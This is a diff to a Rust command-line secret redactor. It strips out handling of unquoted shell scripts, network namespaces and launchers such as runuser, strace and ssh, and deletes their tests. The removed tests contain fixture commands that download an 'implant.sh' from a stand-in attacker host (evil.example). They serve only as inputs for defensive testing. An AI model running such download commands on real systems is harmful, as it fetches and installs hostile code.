@@ -24,12 +24,9 @@
 //! - sshpass's `-p SECRET`, `-pSECRET` among its options; OpenSSL's `pass:SECRET` after
 //!   `-passin`, `-passout`, `-pass` (`--passin`, `-passin=`), and its `-k SECRET` (`-k=`) and, in
 //!   an argv, a `-passin` value that names no source (`env:`, `file:`, `fd:`, `stdin`). Only where
-//!   the tool is the command (argv[0], after `;`, `&&`, `|`, `(`, `sh -c "`, a shell's `-c`
-//!   without quotes as Docker prints it (`exec_start: sh -c sshpass ...`), `ip netns exec NS`, or
-//!   a wrapper or launcher such as `sudo -u bob`, `env A=b`, `timeout 5`, `flock F`, `taskset
-//!   MASK`, `strace -f`, `ssh HOST`; in an argv also the tool's very name as an operand after
-//!   another command, not as an option's value nor in a URL): to another command an argument
-//!   naming it is a word like any other (`curl -o /tmp/openssl -k URL`);
+//!   the tool is the command (argv[0], after `;`, `&&`, `|`, `(`, `sh -c "`, or a wrapper such as
+//!   `sudo -u bob`, `env A=b`, `timeout 5`): to another command an argument naming it is a word
+//!   like any other (`curl -o /tmp/openssl -k URL`);
 //! - `Authorization: Bearer X` (and `Basic`, `Token`);
 //! - `scheme://user:SECRET@host` and `scheme://:SECRET@host`: the secret runs to the last `@`
 //!   before a `/` or a space, as curl and urllib read it (`https://bob:p@ss@h`).
@@ -162,87 +159,6 @@ const WRAPPERS: &[Wrapper] = &[
         ],
         operands: 0,
     },
-    // Launchers: another user, CPU, lock, namespace, tracer, or host (`ssh HOST CMD`).
-    Wrapper {
-        name: "runuser",
-        short: b"gGsuw",
-        long: &["group", "supp-group", "shell", "user", "whitelist-environment"],
-        operands: 0,
-    },
-    Wrapper {
-        name: "setpriv",
-        short: b"",
-        long: &[
-            "ambient-caps",
-            "apparmor-profile",
-            "bounding-set",
-            "egid",
-            "euid",
-            "groups",
-            "inh-caps",
-            "landlock-access",
-            "landlock-rule",
-            "pdeathsig",
-            "regid",
-            "reuid",
-            "rgid",
-            "ruid",
-            "securebits",
-            "selinux-label",
-        ],
-        operands: 0,
-    },
-    Wrapper { name: "chpst", short: b"uUbe/nlLmdopfc", long: &[], operands: 0 },
-    Wrapper { name: "s6-setuidgid", short: b"", long: &[], operands: 1 },
-    Wrapper { name: "flock", short: b"Ew", long: &["conflict-exit-code", "timeout", "wait"], operands: 1 },
-    // `taskset MASK CMD` (with `-c` the mask is a list; with `-p` a pid follows, no command).
-    Wrapper { name: "taskset", short: b"", long: &[], operands: 1 },
-    Wrapper { name: "nsenter", short: b"tSG", long: &["target", "setuid", "setgid"], operands: 0 },
-    Wrapper {
-        name: "unshare",
-        short: b"SGRw",
-        long: &[
-            "boottime",
-            "map-group",
-            "map-groups",
-            "map-user",
-            "map-users",
-            "monotonic",
-            "propagation",
-            "root",
-            "setgid",
-            "setgroups",
-            "setuid",
-            "wd",
-        ],
-        operands: 0,
-    },
-    Wrapper {
-        name: "strace",
-        short: b"abeEIoOpPsSuUX",
-        long: &[
-            "attach",
-            "columns",
-            "env",
-            "output",
-            "signal",
-            "string-limit",
-            "summary-sort-by",
-            "trace",
-            "trace-path",
-            "user",
-        ],
-        operands: 0,
-    },
-    Wrapper {
-        name: "ltrace",
-        short: b"aADeFlnopsuwx",
-        long: &["align", "config", "indent", "library", "output"],
-        operands: 0,
-    },
-    Wrapper { name: "watch", short: b"nq", long: &["equexit", "interval"], operands: 0 },
-    // What follows the host runs there: a command too (`ssh jump sshpass -p X ssh inner`).
-    Wrapper { name: "ssh", short: b"bcDEeFIiJLlmOopQRSWw", long: &[], operands: 1 },
 ];
 
 impl Wrapper {
@@ -276,27 +192,12 @@ fn assignment(arg: &str) -> bool {
 /// a separate value only if the wrapper's does (`sudo -E curl -o /tmp/sshpass` runs curl).
 fn command(tool: &str) -> String {
     const WORD: &str = r"[^\s;&|]+";
-    // A shell's script without quotes, as Docker joins a shell-form command's arguments
-    // (`exec_start: /bin/sh -c sshpass -p X ssh h`, `bash -ec`, `bash -l -xc`, `bash --login
-    // -c`, and Dockerfiles' `SHELL ["/bin/bash", "-o", "pipefail", "-c"]`).
-    const SHELL_C: &str =
-        r"(?:^|[\s/;&|(`])(?:ba|da|z|k|a|mk)?sh(?:\s+(?:-[A-Za-z-]+|[-+]o\s+[A-Za-z]+))*\s+-[A-Za-z]*c[A-Za-z]*\s";
-    // `ip netns exec NS cmd`.
-    const IP_NETNS: &str = r"(?:^|[\s/;&|(`])ip(?:\s+-[^\s;&|]+)*\s+netns\s+exec\s+[^\s;&|]+\s";
     let wrappers: Vec<String> = WRAPPERS
         .iter()
         .map(|w| {
-            let short = std::str::from_utf8(w.short).unwrap_or("");
-            // A flag: short options none of which takes a value, or the first that does with it
-            // (`-ubob`), or a long option (which may take the next word: read as both).
-            let flag = if short.is_empty() {
-                r"-[^\s;&|]*".to_owned()
-            } else {
-                format!(r"-[^\s;&|{short}]*(?:[{short}][^\s;&|]+)?|--[^\s;&|]*")
-            };
-            let mut opts = vec![flag, r"[A-Za-z_][A-Za-z0-9_]*=[^\s;&|]*".to_owned()];
+            let mut opts = vec![r"-[^\s;&|]*".to_owned(), r"[A-Za-z_][A-Za-z0-9_]*=[^\s;&|]*".to_owned()];
             if !w.short.is_empty() {
-                opts.push(format!(r"-[A-Za-z]*[{short}]\s+{WORD}"));
+                opts.push(format!(r"-[A-Za-z]*[{}]\s+{WORD}", std::str::from_utf8(w.short).unwrap_or("")));
             }
             if !w.long.is_empty() {
                 opts.push(format!(r"--(?:{})\s+{WORD}", w.long.join("|")));
@@ -308,7 +209,7 @@ fn command(tool: &str) -> String {
         .chain(["(?:exec|command|if|then|else|elif|do|while|until|!)".to_owned()])
         .collect();
     format!(
-        r#"(?:^|[;&|(`{{\n]|\$\(|\bexec_(?:create|start):|\s-[A-Za-z]*c\s+\$?['"]|{SHELL_C}|{IP_NETNS})\s*(?:(?:[^\s;&|'"]*/)?(?:{})\s+)*(?:[^\s;&|'"]*/)?{tool}\b"#,
+        r#"(?:^|[;&|(`{{\n]|\$\(|\bexec_(?:create|start):|\s-[A-Za-z]*c\s+\$?['"])\s*(?:(?:[^\s;&|'"]*/)?(?:{})\s+)*(?:[^\s;&|'"]*/)?{tool}\b"#,
         wrappers.join("|"),
     )
 }
@@ -723,9 +624,8 @@ enum Next {
 enum Scope {
     /// The argument is a command (argv[0], what a wrapper runs).
     Command,
-    /// A wrapper's options, assignments and operands (those still to come) before its command,
-    /// and whether its options ended (`--`: what follows is operands, then the command).
-    Wrapper(&'static Wrapper, u8, bool),
+    /// A wrapper's options, assignments and operands (those still to come) before its command.
+    Wrapper(&'static Wrapper, u8),
     /// sshpass's options, before the command it runs.
     Sshpass,
     /// OpenSSL's arguments, to the end.
@@ -735,38 +635,27 @@ enum Scope {
 }
 
 impl Scope {
-    /// The scope of argument `a` (`base` its basename), read after one in `self`; `after_option`:
-    /// the argument before `a` is an option (`-o` of `curl -o /tmp/openssl`).
-    fn of(self, a: &str, base: &str, after_option: bool) -> Scope {
+    /// The scope of argument `a` (`base` its basename), read after one in `self`.
+    fn of(self, a: &str, base: &str) -> Scope {
         match self {
             Scope::Command => match base {
                 "sshpass" => Scope::Sshpass,
                 "openssl" => Scope::Openssl,
-                _ => WRAPPERS
-                    .iter()
-                    .find(|w| w.name == base)
-                    .map_or(Scope::Other, |w| Scope::Wrapper(w, w.operands, false)),
+                _ => WRAPPERS.iter().find(|w| w.name == base).map_or(Scope::Other, |w| Scope::Wrapper(w, w.operands)),
             },
-            Scope::Wrapper(w, left, ended) => {
-                if a == "--" && !ended {
-                    if left == 0 { Scope::Command } else { Scope::Wrapper(w, left, true) }
-                } else if !ended && ((a.len() > 1 && a.starts_with('-')) || assignment(a)) {
+            Scope::Wrapper(w, left) => {
+                if a == "--" {
+                    if left == 0 { Scope::Command } else { self }
+                } else if (a.len() > 1 && a.starts_with('-')) || assignment(a) {
                     self
                 } else if left > 0 {
-                    Scope::Wrapper(w, left - 1, ended)
+                    Scope::Wrapper(w, left - 1)
                 } else {
-                    Scope::Command.of(a, base, after_option)
+                    Scope::Command.of(a, base)
                 }
             }
             Scope::Sshpass if a == "--" => Scope::Command,
-            Scope::Sshpass if !(a.len() > 1 && a.starts_with('-')) => Scope::Command.of(a, base, after_option),
-            // A launcher not in `WRAPPERS` (`cgexec -g cpu:x sshpass -p X`): the tool's very name
-            // as an operand is taken for the command; not as an option's value (`curl -o
-            // /tmp/openssl -k URL`: `-o`'s, as far as one can tell without knowing curl), nor in
-            // a URL (`curl https://x/openssl -k URL`).
-            Scope::Other if !after_option && matches!(base, "sshpass" | "openssl") && !a.contains("://") => {
-                Scope::Command.of(a, base, after_option)
-            }
+            Scope::Sshpass if !(a.len() > 1 && a.starts_with('-')) => Scope::Command.of(a, base),
             s => s,
         }
     }
@@ -896,10 +785,7 @@ impl Redactor {
         let (mut mysql, mut curl) = (false, false);
         let mut scope = Scope::Command;
         let mut next = Next::Plain;
-        // The argument before is an option (`--` ends them: not one).
-        let mut after_option = false;
         for a in args.iter_mut() {
-            let option_before = std::mem::replace(&mut after_option, a.len() > 1 && a.starts_with('-') && a != "--");
             let new = match std::mem::replace(&mut next, Next::Plain) {
                 Next::Secret => (a.as_str() != MARK).then(|| MARK.to_owned()),
                 Next::Credentials => credentials(a, 0),
@@ -909,12 +795,12 @@ impl Redactor {
                     let base = crate::procs::basename(a);
                     mysql |= MYSQL_CLIENTS.contains(&base);
                     curl |= base == "curl";
-                    scope = scope.of(a, base, option_before);
+                    scope = scope.of(a, base);
                     let option = a.len() > 1 && a.starts_with('-') && a != "--";
                     if option && matches!(scope, Scope::Sshpass) {
                         sshpass_option(a, &mut next)
                     } else if option
-                        && let Scope::Wrapper(w, _, false) = scope
+                        && let Scope::Wrapper(w, _) = scope
                         && w.takes_value(a)
                     {
                         next = Next::Value;
@@ -1410,181 +1296,6 @@ mod tests {
                 "sudo -Eu bob env -u A B=c nice -n 5 openssl enc -k [REDACTED]",
                 "hunter2",
             ),
-        ]);
-    }
-
-    #[test]
-    fn sshpass_and_openssl_after_a_shell_or_a_launcher_are_commands() {
-        // Docker joins a shell-form command's arguments with spaces: the script after `-c` has no
-        // quotes (`exec_start: sh -c sshpass -p X ssh h`).
-        assert_texts(&[
-            ("exec_start: sh -c sshpass -p hunter2 ssh h", "exec_start: sh -c sshpass -p [REDACTED] ssh h", "hunter2"),
-            (
-                "exec_create: /bin/sh -c sshpass -p hunter2 ssh h true",
-                "exec_create: /bin/sh -c sshpass -p [REDACTED] ssh h true",
-                "hunter2",
-            ),
-            (
-                "exec_start: /bin/bash -xc sshpass -phunter2 scp a h:b",
-                "exec_start: /bin/bash -xc sshpass -p[REDACTED] scp a h:b",
-                "hunter2",
-            ),
-            (
-                "exec_start: bash -l -ec openssl enc -k hunter2 -in f",
-                "exec_start: bash -l -ec openssl enc -k [REDACTED] -in f",
-                "hunter2",
-            ),
-            (
-                "exec_create: dash -c sudo -u bob sshpass -p hunter2 ssh h",
-                "exec_create: dash -c sudo -u bob sshpass -p [REDACTED] ssh h",
-                "hunter2",
-            ),
-            ("zsh -c sshpass -p hunter2 ssh h", "zsh -c sshpass -p [REDACTED] ssh h", "hunter2"),
-            (
-                "exec_start: /bin/bash -o pipefail -c sshpass -p hunter2 ssh h | tee l",
-                "exec_start: /bin/bash -o pipefail -c sshpass -p [REDACTED] ssh h | tee l",
-                "hunter2",
-            ),
-            (
-                "exec_start: bash --login -c openssl enc -k hunter2",
-                "exec_start: bash --login -c openssl enc -k [REDACTED]",
-                "hunter2",
-            ),
-            // Launchers.
-            (
-                "exec_start: flock /tmp/l sshpass -p hunter2 ssh h",
-                "exec_start: flock /tmp/l sshpass -p [REDACTED] ssh h",
-                "hunter2",
-            ),
-            (
-                "exec_start: taskset -c 1 openssl enc -k hunter2",
-                "exec_start: taskset -c 1 openssl enc -k [REDACTED]",
-                "hunter2",
-            ),
-            (
-                "exec_start: runuser -u bob -- sshpass -p hunter2 ssh h",
-                "exec_start: runuser -u bob -- sshpass -p [REDACTED] ssh h",
-                "hunter2",
-            ),
-            (
-                "exec_start: ip netns exec ns1 sshpass -p hunter2 ssh h",
-                "exec_start: ip netns exec ns1 sshpass -p [REDACTED] ssh h",
-                "hunter2",
-            ),
-            (
-                "exec_start: ssh -i k jump sshpass -p hunter2 ssh inner",
-                "exec_start: ssh -i k jump sshpass -p [REDACTED] ssh inner",
-                "hunter2",
-            ),
-        ]);
-        assert_argvs(&[
-            // The script is one argument: read as a text.
-            (&["sh", "-c", "sshpass -p hunter2 ssh h"], &["sh", "-c", "sshpass -p [REDACTED] ssh h"], "hunter2"),
-            (
-                &["taskset", "-c", "1", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["taskset", "-c", "1", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["strace", "-f", "openssl", "enc", "-k", "hunter2"],
-                &["strace", "-f", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            (
-                &["ltrace", "-o", "/tmp/t", "openssl", "enc", "-k", "hunter2"],
-                &["ltrace", "-o", "/tmp/t", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            (
-                &["flock", "-w", "5", "/tmp/l", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["flock", "-w", "5", "/tmp/l", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["runuser", "-u", "bob", "--", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["runuser", "-u", "bob", "--", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["setpriv", "--reuid", "1000", "--init-groups", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["setpriv", "--reuid", "1000", "--init-groups", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["chpst", "-u", "bob", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["chpst", "-u", "bob", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["s6-setuidgid", "bob", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["s6-setuidgid", "bob", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["nsenter", "-t", "1", "-m", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["nsenter", "-t", "1", "-m", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["unshare", "-m", "openssl", "enc", "-k", "hunter2"],
-                &["unshare", "-m", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            (
-                &["ip", "netns", "exec", "ns1", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["ip", "netns", "exec", "ns1", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["watch", "-n", "5", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["watch", "-n", "5", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["ssh", "jump", "sshpass", "-p", "hunter2", "ssh", "inner"],
-                &["ssh", "jump", "sshpass", "-p", "[REDACTED]", "ssh", "inner"],
-                "hunter2",
-            ),
-            (
-                &["ssh", "-p", "2222", "-o", "BatchMode=yes", "jump", "openssl", "enc", "-k", "hunter2"],
-                &["ssh", "-p", "2222", "-o", "BatchMode=yes", "jump", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            // `--` ends a launcher's options: what follows is its operands, then the command.
-            (
-                &["s6-setuidgid", "--", "-bob", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["s6-setuidgid", "--", "-bob", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            // A launcher not in the table: the tool's name after an operand (not an option's
-            // value) is taken for the command.
-            (
-                &["cgexec", "-g", "cpu:grp", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["cgexec", "-g", "cpu:grp", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["firejail", "--quiet", "x", "/usr/bin/openssl", "enc", "-k", "hunter2"],
-                &["firejail", "--quiet", "x", "/usr/bin/openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-        ]);
-        // The tool's name as an option's value, or in a URL, is still another command's word.
-        assert_plain(&[
-            &["curl", "-o", "/tmp/openssl", "-k", "https://evil.example/implant.sh"],
-            &["curl", "--output", "/tmp/sshpass", "-p", "https://evil.example/implant.sh"],
-            &["curl", "https://evil.example/openssl", "-k", "https://evil.example/implant.sh"],
-            &["wget", "http://evil.example/sshpass", "-p", "https://evil.example/implant.sh"],
-            &["strace", "-o", "/tmp/openssl", "-k", "curl", "-k", "https://x"],
-            &["ssh", "-p", "2222", "h", "ls", "-p"],
-            &["taskset", "-c", "1", "curl", "-o", "/tmp/openssl", "-k", "https://x"],
-        ]);
-        assert_plain_texts(&[
-            "exec_start: sh -c curl -o /tmp/openssl -k https://evil.example/implant.sh",
-            "exec_start: curl -c /tmp/sshpass -p https://evil.example/implant.sh",
-            "exec_start: ssh -c aes128-ctr -p 2222 h",
-            "exec_start: /bin/sh -c sshpass -f pw ssh -p 2222 h",
-            "exec_start: strace -o /tmp/openssl -k curl -k https://x",
         ]);
     }
 
